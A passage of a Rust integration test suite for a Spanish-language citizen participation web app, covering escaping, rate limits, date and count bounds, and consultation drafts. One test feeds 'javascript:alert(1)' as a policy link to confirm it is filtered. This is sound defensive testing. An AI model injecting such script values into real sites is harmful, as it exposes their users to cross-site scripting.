        &format!("/audiencias/{hearing_id}/inscripcion"),
        &[
            ("nombre", HOSTILE),
            ("grupo", &groups[0].code),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(
        registered.status,
        StatusCode::SEE_OTHER,
        "{}",
        registered.body
    );
    clean(
        &app.get(&format!("/audiencias/{hearing_id}"), None)
            .await
            .body,
        "hearing public page",
    );
    clean(
        &app.get(&hearing_admin, Some(&admin)).await.body,
        "hearing staff page",
    );
    // Event: title, place and territory.
    let event = app
        .post_files(
            "/admin/eventos",
            Some(&admin),
            &[
                ("titulo", HOSTILE),
                ("fecha", "2025-06-14"),
                ("modalidad", "presencial"),
                ("lugar", HOSTILE),
                ("territorio", HOSTILE),
                ("actividad", "1:6"),
                ("asistentes", "5"),
            ],
            &[],
        )
        .await;
    assert_eq!(event.status, StatusCode::SEE_OTHER, "{}", event.body);
    clean(
        &app.get("/admin/eventos", Some(&admin)).await.body,
        "events page",
    );
    // Nothing stored is lost to a refused or flooded request: the survey keeps its count.
    let before = app
        .store
        .consultation(survey_id.parse().unwrap())
        .await
        .unwrap()
        .responses;
    let mut accepted = 0;
    for _ in 0..14 {
        let r = post_from(
            &app,
            "10.5.0.9",
            &format!("/consultas/{survey_id}/respuestas"),
            &[("p1", "No")],
        )
        .await;
        if r.status == StatusCode::SEE_OTHER {
            accepted += 1;
        } else {
            assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
            assert!(r.body.contains("demasiados envíos"), "{}", r.body);
        }
    }
    assert!((10..14).contains(&accepted), "{accepted}");
    let other_client = post_from(
        &app,
        "10.5.0.10",
        &format!("/consultas/{survey_id}/respuestas"),
        &[("p1", "No")],
    )
    .await;
    assert_eq!(
        other_client.status,
        StatusCode::SEE_OTHER,
        "another client is still served"
    );
    let after = app
        .store
        .consultation(survey_id.parse().unwrap())
        .await
        .unwrap()
        .responses;
    assert_eq!(after, before + accepted + 1);
}

async fn events_and_attendance(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let reporter = app.login("reporter").await;
    let fields = |activity: &'static str| {
        vec![
            ("titulo", "Feria de servicios en Cali"),
            ("fecha", "2025-06-14"),
            ("modalidad", "presencial"),
            ("lugar", "Batallón Pichincha"),
            ("territorio", "Valle del Cauca"),
            ("actividad", activity),
        ]
    };
    // An office records events of its own activities only.
    let mut other = fields("1:12");
    other.push(("asistentes", "10"));
    assert_eq!(
        app.post_files("/admin/eventos", Some(&reporter), &other, &[])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    let mut own = fields("1:13");
    own.push(("asistentes", "25"));
    assert_eq!(
        app.post_files("/admin/eventos", Some(&reporter), &own, &[])
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    // A bad attendee list is refused whole, with its lines; nothing is stored.
    let bad = "nombre;grupo_valor;satisfaccion\nAna;afiliados;5\nLuis;reservistas;9\n";
    let refused = app
        .post_files(
            "/admin/eventos",
            Some(&admin),
            &fields("1:6"),
            &[("lista", "asistencia.csv", bad.as_bytes())],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.body.contains("línea 3: grupo_valor: «reservistas»")
            && refused.body.contains("línea 3: satisfaccion: «9»"),
        "{}",
        refused.body
    );
    assert!(
        refused
            .body
            .contains("value=\"Feria de servicios en Cali\""),
        "typed text lost"
    );
    assert_eq!(app.store.events().await.unwrap().len(), 1);
    // A good list is counted (names are not kept); a count-only event adds up with it.
    let good = "Nombre;Grupo valor;Satisfacción\nAna Pérez;afiliados;5\nLuis Gómez;pensionados;4\nMarta Ruiz;;\n";
    let ok = app
        .post_files(
            "/admin/eventos",
            Some(&admin),
            &fields("1:6"),
            &[("lista", "asistencia.csv", good.as_bytes())],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let mut counted = fields("1:6");
    counted.push(("asistentes", "40"));
    assert_eq!(
        app.post_files("/admin/eventos", Some(&admin), &counted, &[])
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    let list = app.get("/admin/eventos", Some(&admin)).await;
    assert!(list.body.contains("4,5 / 5"));
    assert!(
        !list.body.contains("Ana Pérez"),
        "an attendee's name was kept"
    );
    let stored = app.store.events().await.unwrap();
    assert_eq!(
        stored
            .iter()
            .find(|e| e.data.attendees == 3)
            .unwrap()
            .data
            .by_group["afiliados"],
        1
    );
    // Activity 6's follow-up shows the events with no manual entry.
    let activity = app
        .get("/admin/planes/1/seguimiento/actividades/6", Some(&admin))
        .await;
    assert!(
        activity
            .body
            .contains("Eventos: 2, con 43 asistentes, satisfacción 4,5 / 5"),
        "{}",
        activity.body
    );
    // The portal lists upcoming events only (and is drawn again when one is recorded:
    // it is cached until the audit log moves).
    assert!(!app.get("/", None).await.body.contains("Próximos eventos"));
    let next_week = (participa_app::dates::today() + chrono::Duration::days(7)).to_string();
    let upcoming = app
        .post_files(
            "/admin/eventos",
            Some(&admin),
            &[
                ("titulo", "Feria de vivienda en Medellín"),
                ("fecha", &next_week),
                ("modalidad", "mixto"),
                ("lugar", "Plaza Mayor"),
                ("territorio", "Antioquia"),
                ("actividad", "1:12"),
                ("asistentes", "0"),
            ],
            &[],
        )
        .await;
    assert_eq!(upcoming.status, StatusCode::SEE_OTHER, "{}", upcoming.body);
    let home = app.get("/", None).await;
    assert!(
        home.body.contains("Feria de vivienda en Medellín")
            && home.body.contains("Mixto · Plaza Mayor, Antioquia")
            && !home.body.contains("Feria de servicios en Cali"),
        "{}",
        home.body
    );
}

async fn channel_figures_import(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let reporter = app.login("reporter").await;
    let bad = "mes;indicador;valor\n2025-13;interacciones;10\n2025-02;interacciones;muchas\n";
    let refused = app
        .post_files(
            "/admin/canales",
            Some(&reporter),
            &[("canal", "redes_sociales"), ("actividad", "1:13")],
            &[("archivo", "redes.csv", bad.as_bytes())],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.body.contains("línea 2: mes: «2025-13»")
            && refused.body.contains("línea 3: valor: «muchas»"),
        "{}",
        refused.body
    );
    assert!(
        app.store.channel_figures(1).await.unwrap().is_empty(),
        "a refused file stored figures"
    );
    // ARCOM imports its own activity's figures, not the contact center's (ASERA).
    let good = "mes;indicador;valor\nenero 2025;interacciones;12.345\n2025-02;interacciones;9876\n";
    let files = [("archivo", "redes.csv", good.as_bytes())];
    assert_eq!(
        app.post_files(
            "/admin/canales",
            Some(&reporter),
            &[("canal", "centro_contacto"), ("actividad", "1:9")],
            &files
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let ok = app
        .post_files(
            "/admin/canales",
            Some(&reporter),
            &[("canal", "redes_sociales"), ("actividad", "1:13")],
            &files,
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let page = app
        .get(ok.location.as_deref().unwrap(), Some(&reporter))
        .await;
    assert!(page
        .body
        .contains("2 cifras de Redes sociales importadas para la actividad 13"));
    // Importing February again replaces it; January stays.
    let again = "mes;indicador;valor\n2025-02;interacciones;10000\n";
    app.post_files(
        "/admin/canales",
        Some(&reporter),
        &[("canal", "redes_sociales"), ("actividad", "1:13")],
        &[("archivo", "febrero.csv", again.as_bytes())],
    )
    .await;
    let activity = app
        .get(
            "/admin/planes/1/seguimiento/actividades/13",
            Some(&reporter),
        )
        .await;
    assert!(
        activity
            .body
            .contains("Redes sociales: 22345 interacciones en 2 meses"),
        "{}",
        activity.body
    );
    // Followers are a stock: the last month counts, not the sum.
    let followers = "mes;indicador;valor;agregacion\n2025-01;seguidores;1.200;ultimo\n2025-02;seguidores;1.300;ultimo\n";
    let imported = app
        .post_files(
            "/admin/canales",
            Some(&reporter),
            &[("canal", "redes_sociales"), ("actividad", "1:13")],
            &[("archivo", "seguidores.csv", followers.as_bytes())],
        )
        .await;
    assert_eq!(imported.status, StatusCode::SEE_OTHER, "{}", imported.body);
    let activity = app
        .get(
            "/admin/planes/1/seguimiento/actividades/13",
            Some(&reporter),
        )
        .await;
    assert!(
        activity
            .body
            .contains("Redes sociales: 1300 seguidores a febrero de 2025")
            && activity.body.contains("22345 interacciones"),
        "{}",
        activity.body
    );
}

/// Behind a trusted reverse proxy each citizen has their own quota (from
/// `X-Forwarded-For`); from anyone else the header is ignored.
async fn rate_limits_behind_a_trusted_proxy(db: TestDatabase) {
    let mut app = TestApp::new(db).await;
    let state = AppState::new(
        app.store.clone(),
        participa_web::Config {
            trusted_proxies: vec!["10.9.0.1".parse().unwrap()],
            ..Default::default()
        },
    );
    app.router = participa_web::router(state);
    let send = |peer: &'static str, forwarded: &'static str| {
        let app = &app;
        async move {
            let mut r = Request::post("/sugerencias")
                .header(header::HOST, HOST)
                .header(header::ORIGIN, ORIGIN)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header("x-forwarded-for", forwarded)
                // The honeypot: accepted and dropped, but counted by the limit first.
                .body(Body::from("categoria=vivienda&texto=hola&sitio_web=x"))
                .unwrap();
            let addr: std::net::SocketAddr = format!("{peer}:40000").parse().unwrap();
            r.extensions_mut().insert(axum::extract::ConnectInfo(addr));
            app.send(r).await
        }
    };
    for _ in 0..10 {
        assert_eq!(
            send("10.9.0.1", "203.0.113.5").await.status,
            StatusCode::SEE_OTHER
        );
    }
    let limited = send("10.9.0.1", "203.0.113.5").await;
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    // The quota refills one submission at a time: the wait said is a minute at most.
    let wait: u64 = limited.headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "Retry-After {wait}");
    // Another citizen behind the same proxy is still served.
    assert_eq!(
        send("10.9.0.1", "203.0.113.6").await.status,
        StatusCode::SEE_OTHER
    );
    // A client that is not the proxy cannot pick its key with the header.
    for _ in 0..10 {
        assert_eq!(
            send("198.51.100.7", "203.0.113.99").await.status,
            StatusCode::SEE_OTHER
        );
    }
    assert_eq!(
        send("198.51.100.7", "203.0.113.100").await.status,
        StatusCode::TOO_MANY_REQUESTS
    );
}

/// The entity's data-processing policy is linked next to each consent and kept with it.
async fn the_data_policy_is_linked_and_kept_with_consent(db: TestDatabase) {
    const POLICY: &str = "https://www.cajahonor.gov.co/politica-de-datos";
    let mut app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let state = AppState::new(
        app.store.clone(),
        participa_web::Config {
            privacy_policy: Some(POLICY.into()),
            ..Default::default()
        },
    );
    app.router = participa_web::router(state);
    let form = app.get("/sugerencias", None).await;
    assert!(form.body.contains(&format!(
        "<a href=\"{POLICY}\" rel=\"noopener\">Lea la política"
    )));
    let id = new_consultation(&app, &admin, &[("identificacion", "si")]).await;
    let page = app.get(&format!("/consultas/{id}"), None).await;
    assert!(page.body.contains(POLICY));
    let r = post_from(
        &app,
        "10.7.0.1",
        &format!("/consultas/{id}/respuestas"),
        &[
            ("tipo_documento", "CC"),
            ("documento", "52111222"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let kept: Vec<(String,)> = match app.store.db() {
        participa_store::Db::Sqlite(p) => {
            sqlx::query_as("SELECT consent_purpose FROM consultation_responses")
                .fetch_all(p)
                .await
                .unwrap()
        }
        participa_store::Db::Postgres(p) => {
            sqlx::query_as("SELECT consent_purpose FROM consultation_responses")
                .fetch_all(p)
                .await
                .unwrap()
        }
    };
    assert!(kept[0].0.contains(POLICY), "{}", kept[0].0);
    // Something that is not a web address never reaches a link.
    let state = AppState::new(
        app.store.clone(),
        participa_web::Config {
            privacy_policy: Some("javascript:alert(1)".into()),
            ..Default::default()
        },
    );
    app.router = participa_web::router(state);
    assert!(!app
        .get("/sugerencias", None)
        .await
        .body
        .contains("javascript:"));
}

// ------------------------------------------------------------ hardening: dates, counts

/// Issue 13, item 10: `?fecha=+262142-12-31` dropped the connection (a panic); every typed
/// date is now checked to 1900–2200 with a message that names the field.
async fn extreme_dates_are_refused_with_a_message_naming_the_field(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let far = "+262142-12-31";
    let r = app
        .get(&format!("/admin/parametros?fecha={}", encode(far)), c)
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert!(
        r.body
            .contains("La fecha de consulta debe estar entre los años 1900 y 2200"),
        "{}",
        r.body
    );
    for path in [
        "/admin/planes/1/seguimiento?fecha=9999-12-31",
        "/admin/auditoria?desde=1899-12-31",
        "/admin/auditoria?hasta=-0001-01-01",
    ] {
        let r = app.get(path, c).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert!(r.body.contains("entre los años 1900 y 2200"), "{path}");
    }
    for year in ["262142", "abc", "1900"] {
        let r = app.get(&format!("/admin/festivos?anio={year}"), c).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{year}");
        assert!(
            r.body.contains("escriba un año entre 1984 y 2200"),
            "{}",
            r.body
        );
    }
    // A valid or empty date still works.
    assert_eq!(
        app.get("/admin/parametros?fecha=", c).await.status,
        StatusCode::OK
    );
    assert_eq!(
        app.get("/admin/auditoria?desde=2025-01-01&hasta=", c)
            .await
            .status,
        StatusCode::OK
    );
    let hearing = app
        .post(
            "/admin/audiencias",
            c,
            &[
                ("titulo", "Audiencia del futuro lejano"),
                ("fecha", far),
                ("hora", "10:00"),
                ("lugar", "Bogotá"),
                ("informe_fecha", "99999-01-01"),
            ],
        )
        .await;
    assert_eq!(hearing.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(hearing
        .body
        .contains("La fecha de la audiencia debe estar entre los años 1900 y 2200 (se escribió «+262142-12-31»)."));
    assert!(hearing
        .body
        .contains("La fecha de publicación del informe no es una fecha válida («99999-01-01»)"));
    assert!(app.store.hearings().await.unwrap().is_empty());
    let holiday = app
        .post(
            "/admin/festivos",
            c,
            &[
                ("accion", "agregar"),
                ("fecha", far),
                ("nombre", "X"),
                ("motivo", "Y"),
            ],
        )
        .await;
    assert_eq!(holiday.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(holiday
        .body
        .contains("La fecha del festivo debe estar entre"));
    let consultation = app
        .post(
            "/admin/consultas",
            c,
            &[
                ("titulo", "Encuesta"),
                ("abre", "2025-01-01"),
                ("cierra", "9999-12-31"),
            ],
        )
        .await;
    assert_eq!(consultation.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(consultation
        .body
        .contains("La fecha en que cierra debe estar entre"));
    let event = app
        .post_files(
            "/admin/eventos",
            c,
            &[
                ("titulo", "Feria"),
                ("fecha", far),
                ("modalidad", "presencial"),
                ("asistentes", "10"),
            ],
            &[],
        )
        .await;
    assert_eq!(event.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(event.body.contains("La fecha del evento debe estar entre"));

    // A hearing stored with such a date (before the check) no longer takes its pages
    // down: they panicked on every request.
    let id = app
        .store
        .create_hearing(
            &participa_store::HearingData {
                title: "Audiencia guardada antes de la regla".into(),
                held_on: chrono::NaiveDate::from_ymd_opt(262142, 12, 31).unwrap(),
                starts_at: "10:00".into(),
                place: "Bogotá".into(),
                stream_url: String::new(),
                report_url: String::new(),
                report_published_on: None,
                convocation: String::new(),
                activity: None,
            },
            &Actor::system(),
        )
        .await
        .unwrap();
    for path in [
        format!("/audiencias/{id}"),
        format!("/admin/audiencias/{id}"),
    ] {
        let r = app
            .get(&path, if path.starts_with("/admin") { c } else { None })
            .await;
        assert_eq!(r.status, StatusCode::OK, "{path}: {}", r.body);
    }
    assert_eq!(app.get("/", None).await.status, StatusCode::OK);
}

fn encode(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Issue 13, item 11: an activity ending 9999-12-31 was accepted; the follow-up page then
/// cost seconds of CPU and the plan page megabytes.
async fn activity_dates_stay_near_the_vigencia(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let with_end = |end: &'static str| {
        let mut form = activity_form("Actividad eterna", "OAPLA");
        form.retain(|(k, _)| *k != "fin");
        form.extend([("fin", end), ("numero", "20")]);
        form
    };
    let r = app
        .post(
            "/admin/planes/1/actividades/nueva",
            c,
            &with_end("9999-12-31"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("entre los años 1900 y 2200"), "{}", r.body);
    let r = app
        .post(
            "/admin/planes/1/actividades/nueva",
            c,
            &with_end("2030-12-31"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(
        r.body.contains("La fecha final de la actividad 20 (31 dic 2030) está lejos de la vigencia 2025: las fechas de sus actividades van del 1 ene 2024 al 31 dic 2026."),
        "{}",
        r.body
    );
    assert!(r.body.contains("value=\"2030-12-31\""), "typed value lost");
    // The year before and after are fine.
    let mut near = activity_form("Informe de cierre", "OAPLA");
    near.retain(|(k, _)| *k != "fin" && *k != "inicio");
    near.extend([
        ("inicio", "2024-11-01"),
        ("fin", "2026-01-31"),
        ("numero", "21"),
    ]);
    let r = app
        .post("/admin/planes/1/actividades/nueva", c, &near)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);

    // A plan saved before the rule, with an activity to 9999, reads back and its pages
    // stay cheap: the calendar computes instead of walking the days, the Gantt is cut.
    let mut draft = app.store.plan(PlanId(1)).await.unwrap().into_draft();
    draft.activities[0].end = chrono::NaiveDate::from_ymd_opt(9999, 12, 31).unwrap();
    let legacy = participa_domain::Plan::from_saved(draft).unwrap();
    let id = app.store.insert_plan(&legacy, None).await.unwrap();
    let followup = app
        .get(
            &format!("/admin/planes/{id}/seguimiento?fecha=2025-06-30"),
            c,
        )
        .await;
    assert_eq!(followup.status, StatusCode::OK);
    let plan = app.get(&format!("/admin/planes/{id}"), c).await;
    assert_eq!(plan.status, StatusCode::OK);
    assert!(plan.bytes.len() < 1_000_000, "{} bytes", plan.bytes.len());
    // Its other activities can still be edited and deleted; the old one is not refused
    // until its own dates are changed.
    let edit = app
        .post(
            &format!("/admin/planes/{id}/actividades/13/editar"),
            c,
            &activity_form("Redes sociales, corregido", "ARCOM"),
        )
        .await;
    assert_eq!(edit.status, StatusCode::SEE_OTHER, "{}", edit.body);
    let delete = app
        .post(
            &format!("/admin/planes/{id}/actividades/14/eliminar"),
            c,
            &[("motivo", "")],
        )
        .await;
    assert_eq!(delete.status, StatusCode::SEE_OTHER, "{}", delete.body);
}

/// Issue 13, item 17: `9223372036854775807` attendees was accepted and the totals
/// overflowed silently.
async fn attendee_counts_are_bounded(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let fields = |attendees: &'static str| {
        vec![
            ("titulo", "Feria de servicios"),
            ("fecha", "2025-06-14"),
            ("modalidad", "presencial"),
            ("actividad", "1:6"),
            ("asistentes", attendees),
        ]
    };
    for huge in ["9223372036854775807", "10000001", "-5", "1e9"] {
        let r = app
            .post_files("/admin/eventos", c, &fields(huge), &[])
            .await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{huge}: {}",
            r.body
        );
        assert!(
            r.body.contains(
                "Cuántas personas asistieron: escriba un número entero entre 0 y 10\u{a0}000\u{a0}000"
            ),
            "{huge}: {}",
            r.body
        );
    }
    let mut more_answers = fields("10");
    more_answers.extend([("satisfaccion", "4"), ("respuestas_satisfaccion", "11")]);
    let r = app
        .post_files("/admin/eventos", c, &more_answers, &[])
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("más personas de las que asistieron"));
    assert!(app.store.events().await.unwrap().is_empty());
    // The largest count is taken twice, and the activity's total adds them up.
    for _ in 0..2 {
        let r = app
            .post_files("/admin/eventos", c, &fields("10000000"), &[])
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }
    let page = app
        .get("/admin/planes/1/seguimiento/actividades/6", c)
        .await;
    assert!(
        page.body.contains("Eventos: 2, con 20000000 asistentes"),
        "{}",
        page.body
    );
    // A channel figure past the bound is refused with its line.
    let csv = "mes;indicador;valor\n2025-01;visitas;9223372036854775807\n";
    let r = app
        .post_files(
            "/admin/canales",
            c,
            &[("canal", "sitio_web"), ("actividad", "1:14")],
            &[("archivo", "web.csv", csv.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("es demasiado grande"), "{}", r.body);
}

/// A consultation before its opening date: its page says when it opens, shows neither
/// questions nor topics, takes no answer; staff preview it.
async fn a_consultation_before_it_opens_says_when(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let today = participa_app::dates::today();
    let opens = (today + chrono::Duration::days(10)).to_string();
    let closes = (today + chrono::Duration::days(40)).to_string();
    for (title, kind) in [
        ("Encuesta de mañana", "encuesta"),
        ("Foro de mañana", "foro"),
    ] {
        let r = app
            .post(
                "/admin/consultas",
                c,
                &[
                    ("titulo", title),
                    ("tipo", kind),
                    ("moderacion", "previa"),
                    ("abre", &opens),
                    ("cierra", &closes),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }
    let q = app
        .post(
            "/admin/consultas/1/preguntas",
            c,
            &[("texto", "¿Pregunta aún en borrador?"), ("tipo", "texto")],
        )
        .await;
    assert_eq!(q.status, StatusCode::SEE_OTHER, "{}", q.body);
    let t = app
        .post(
            "/admin/consultas/2/temas",
            c,
            &[("titulo", "Tema en borrador"), ("texto", "")],
        )
        .await;
    assert_eq!(t.status, StatusCode::SEE_OTHER, "{}", t.body);
    // Issue 14, item 6: a new consultation is a draft the public cannot reach; staff
    // announce it, and from then on its page says when it opens.
    for id in [1, 2] {
        let draft = app.get(&format!("/consultas/{id}"), None).await;
        assert_eq!(draft.status, StatusCode::NOT_FOUND);
        let announced = app
            .post(&format!("/admin/consultas/{id}/anunciar"), c, &[])
            .await;
        assert_eq!(
            announced.status,
            StatusCode::SEE_OTHER,
            "{}",
            announced.body
        );
    }
    let opens_text = participa_app::dates::fecha(today + chrono::Duration::days(10));
    let survey = app.get("/consultas/1", None).await;
    assert_eq!(survey.status, StatusCode::OK);
    assert!(
        survey
            .body
            .contains(&format!("La consulta abre el {opens_text}")),
        "{}",
        survey.body
    );
    assert!(!survey.body.contains("Pregunta aún en borrador"));
    assert!(!survey.body.contains("Enviar mis respuestas"));
    let forum = app.get("/consultas/2", None).await;
    assert!(
        forum
            .body
            .contains(&format!("El foro abre el {opens_text}")),
        "{}",
        forum.body
    );
    assert!(!forum.body.contains("Tema en borrador"), "{}", forum.body);
    let answer = app
        .post("/consultas/1/respuestas", None, &[("p1", "Sí")])
        .await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert!(answer
        .body
        .contains(&format!("La consulta abre el {opens_text}")));
    let comment = app
        .post(
            "/consultas/2/respuestas",
            None,
            &[
                ("tema", "1"),
                ("comentario", "Hola a todos, un comentario."),
            ],
        )
        .await;
    assert_eq!(comment.status, StatusCode::BAD_REQUEST);
    assert_eq!(app.store.consultation(1).await.unwrap().responses, 0);
    // Staff see the page as citizens will once it opens, without its buttons.
    let preview = app.get("/admin/consultas/1/vista-previa", c).await;
    assert_eq!(preview.status, StatusCode::OK);
    assert!(preview.body.contains("Vista previa para funcionarios"));
    assert!(preview.body.contains("Pregunta aún en borrador"));
    assert!(!preview.body.contains("Enviar mis respuestas"));
    let preview = app.get("/admin/consultas/2/vista-previa", c).await;
    assert!(preview.body.contains("Tema en borrador"));
    assert!(!preview.body.contains("Comente este tema"));
    // Results made public ahead of time stay hidden, with the questions, until it opens.
    let published = app
        .post("/admin/consultas/1/resultados", c, &[("publicos", "si")])
        .await;
    assert_eq!(
        published.status,
        StatusCode::SEE_OTHER,
        "{}",
        published.body
    );
    let results = app.get("/consultas/1/resultados", None).await;
    assert_eq!(results.status, StatusCode::NOT_FOUND);
    assert!(!results.body.contains("Pregunta aún en borrador"));
    assert_eq!(
        outcome(&app.get("/admin/consultas/1/vista-previa", None).await),
        SignIn
    );
}

/// Issue 13, item 10, as a property: whatever is typed as a date, on every route that
/// takes one (forms and query strings, public and staff), the answer is never a 500
/// and never a dropped connection (a panic in a handler fails this test outright).
#[test]
fn no_typed_date_breaks_a_route() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, TestRunner};
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let (app, cookie) = runtime.block_on(async {
        let app = TestApp::new(participa_store::testing::sqlite()).await;
        participation_fixtures(&app).await;
        let cookie = app.login("admin").await;
        (app, cookie)
    });
    // Dates of any year chrono knows (and past it), in and out of the ISO shape, and
    // arbitrary text.
    let dates = prop_oneof![
        (-300_000i64..300_000, 0u32..14, 0u32..33)
            .prop_map(|(y, m, d)| format!("{y}-{m:02}-{d:02}")),
        (-300_000i64..300_000, 1u32..13, 1u32..29)
            .prop_map(|(y, m, d)| format!("{y:+}-{m:02}-{d:02}")),
        (1890i32..2210, 1u32..13, 1u32..29).prop_map(|(y, m, d)| format!("{y:04}-{m:02}-{d:02}")),
        Just("+262142-12-31".to_string()),
        Just("-262143-01-01".to_string()),
        Just("9999-12-31".to_string()),
        Just(String::new()),
        "\\PC{0,24}",
    ];
    let mut runner = TestRunner::new(Config {
        cases: 48,
        failure_persistence: None,
        ..Config::default()
    });
    runner
        .run(&dates, |date| {
            let failures = runtime.block_on(date_routes(&app, &cookie, &date));
            prop_assert!(
                failures.is_empty(),
                "date «{}»: {}",
                date,
                failures.join("; ")
            );
            Ok(())
        })
        .unwrap();
}

/// Sends `date` to every route that takes a date; the requests answered 500.
async fn date_routes(app: &TestApp, cookie: &str, date: &str) -> Vec<String> {
    let c = Some(cookie);
    let q = encode(date);
    let mut replies = Vec::new();
    for path in [
        format!("/admin/parametros?fecha={q}"),
        format!("/admin/planes/1/seguimiento?fecha={q}"),
        format!("/admin/auditoria?desde={q}&hasta={q}"),
        format!("/admin/festivos?anio={q}"),
    ] {
        replies.push((path.clone(), app.get(&path, c).await));
    }
    let posts: Vec<(&str, Vec<(&str, &str)>)> = vec![
        (
            "/admin/parametros",
            vec![
                ("parametro", "peticion.general"),
                ("valor", "15"),
                ("desde", date),
                ("motivo", "Prueba"),
            ],
        ),
        (
            "/admin/festivos",
            vec![
                ("accion", "agregar"),
                ("fecha", date),
                ("nombre", "Día"),
                ("motivo", "Prueba"),
            ],
        ),
        (
            "/admin/audiencias",
            vec![
                ("titulo", "Audiencia"),
                ("fecha", date),
                ("hora", "10:00"),
                ("lugar", "Bogotá"),
                ("informe_fecha", date),
            ],
        ),
        ("/admin/audiencias/1/evaluacion", vec![("cierra", date)]),
        (
            "/admin/consultas",
            vec![("titulo", "Consulta"), ("abre", date), ("cierra", date)],
        ),
        (
            "/admin/planes/1/actividades/nueva",
            vec![
                ("descripcion", "Actividad"),
                ("inicio", date),
                ("fin", date),
                ("responsables", "OAPLA"),
                ("entregable", "Informe"),
            ],
        ),
        (
            "/admin/planes/1/estado",
            vec![
                ("accion", "aprobar"),
                ("acta_numero", "7"),
                ("acta_fecha", date),
            ],
        ),
    ];
    for (path, form) in &posts {
        replies.push((path.to_string(), app.post(path, c, form).await));
    }
    let event = app
        .post_files(
            "/admin/eventos",
            c,
            &[
                ("titulo", "Evento"),
                ("fecha", date),
                ("modalidad", "presencial"),
                ("asistentes", "3"),
            ],
            &[],
        )
        .await;
    replies.push(("/admin/eventos".into(), event));
    // What those requests may have stored is shown on these pages.
    for path in [
        "/",
        "/admin/audiencias",
        "/admin/eventos",
        "/admin/consultas",
        "/admin/planes/1",
    ] {
        replies.push((path.to_string(), app.get(path, c).await));
    }
    for h in app.store.hearings().await.unwrap() {
        let path = format!("/audiencias/{}", h.id);
        replies.push((path.clone(), app.get(&path, None).await));
    }
    replies
        .into_iter()
        .filter(|(_, r)| r.status.is_server_error())
        .map(|(path, r)| {
            format!(
                "{path}: {} {}",
                r.status,
                r.body.chars().take(200).collect::<String>()
            )
        })
        .collect()
}

/// Issue 14, item 2: a workflow step's notification shows in the navigation and on the
/// user's notifications page; opening it goes where to act and marks it read; nobody
/// else can open it; each user can turn the e-mails off.
async fn each_user_reads_and_opens_only_their_own_notifications(db: TestDatabase) {
    let app = TestApp::new(db).await;
    app.to_status(&[Transition::Consolidate]).await;
    let approver = app.login("approver").await;
    let home = app.get("/admin/planes", Some(&approver)).await;
    assert!(
        home.body.contains(
            "Notificaciones <span class=\"count\">(1<span class=\"sr-only\"> sin leer</span>)"
        ),
        "{}",
        home.body
    );
    let page = app.get("/admin/notificaciones", Some(&approver)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Plan consolidado: "), "{}", page.body);
    assert!(page.body.contains("Tiene 1 sin leer."), "{}", page.body);
    let id = app.store.notifications(4, 10).await.unwrap()[0].id;
    let admin = app.login("admin").await;
    let theirs = app
        .get(&format!("/admin/notificaciones/{id}"), Some(&admin))
        .await;
    assert_eq!(theirs.status, StatusCode::NOT_FOUND);
    let opened = app
        .get(&format!("/admin/notificaciones/{id}"), Some(&approver))
        .await;
    assert_eq!(opened.status, StatusCode::SEE_OTHER);
    assert_eq!(opened.location.as_deref(), Some("/admin/planes/1"));
    let home = app.get("/admin/planes", Some(&approver)).await;
    assert!(!home.body.contains("sin leer"), "read now");
    assert!(app
